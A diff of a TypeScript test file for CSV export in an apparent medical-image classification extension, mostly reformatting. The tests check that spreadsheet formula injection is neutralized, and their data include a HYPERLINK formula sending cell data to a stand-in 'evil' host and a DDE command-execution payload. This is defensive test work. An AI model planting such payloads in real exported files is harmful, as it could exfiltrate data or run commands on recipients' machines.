@@ -4,9 +4,22 @@ import { csvField, historyToCsv, neutralizeFormula } from '../../extension/src/c
 import type { HistoryEntry } from '../../extension/src/services/ClassificationService';
 
 const entry = (over: Partial<HistoryEntry>): HistoryEntry => ({
-  at: 't', source: 'file', studyInstanceUID: '', seriesInstanceUID: '', sopInstanceUID: '', frame: 0, slice: null, file: 'a.png',
-  classes: ['glioma', 'meningioma', 'notumor', 'pituitary'], probabilities: [0.1, 0.2, 0.3, 0.4], top: 'pituitary', outOfRange: null,
-  modelVersion: 'v', backend: 'wasm', ms: 1, ...over,
+  at: 't',
+  source: 'file',
+  studyInstanceUID: '',
+  seriesInstanceUID: '',
+  sopInstanceUID: '',
+  frame: 0,
+  slice: null,
+  file: 'a.png',
+  classes: ['glioma', 'meningioma', 'notumor', 'pituitary'],
+  probabilities: [0.1, 0.2, 0.3, 0.4],
+  top: 'pituitary',
+  outOfRange: null,
+  modelVersion: 'v',
+  backend: 'wasm',
+  ms: 1,
+  ...over,
 });
 
 test('csv quoting follows RFC 4180', () => {
@@ -16,7 +29,7 @@ test('csv quoting follows RFC 4180', () => {
 
 test.each([
   ['=HYPERLINK("http://evil/?x="&A1,"click")', `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`],
-  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
   ['-2+3', `'-2+3`],
   ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
   ['\t=1+1', `'\t=1+1`],
@@ -28,7 +41,9 @@ test.each([
 });
 
 test('every text column is neutralized (UIDs, versions, reasons), numbers are not', () => {
-  const line = historyToCsv([entry({ studyInstanceUID: '=1', modelVersion: '@v', outOfRange: '-x', probabilities: [], top: '' })]).split('\r\n')[1];
+  const line = historyToCsv([
+    entry({ studyInstanceUID: '=1', modelVersion: '@v', outOfRange: '-x', probabilities: [], top: '' }),
+  ]).split('\r\n')[1];
   expect(line).toContain(",'=1,");
   expect(line).toContain(",'@v,");
   expect(line).toContain(",'-x,");
